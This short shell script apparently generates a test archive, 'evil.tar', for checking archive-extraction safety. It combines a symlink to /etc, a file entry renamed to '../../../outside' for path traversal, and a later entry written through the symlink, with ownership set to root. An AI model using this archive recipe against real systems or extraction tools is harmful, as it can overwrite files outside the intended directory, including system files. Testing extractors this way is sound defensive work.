umask 022
mkdir -p t/sub; echo evil > t/sub/f; ln -s /etc t/link
tar -C t --owner=0 --group=0 -cf evil.tar link
tar -C t --owner=0 --group=0 --transform 's,^sub/f,../../../outside,' -rf evil.tar sub/f
rm t/link; mkdir t/link; echo evil > t/link/x; tar -C t --owner=0 --group=0 -rf evil.tar link/x
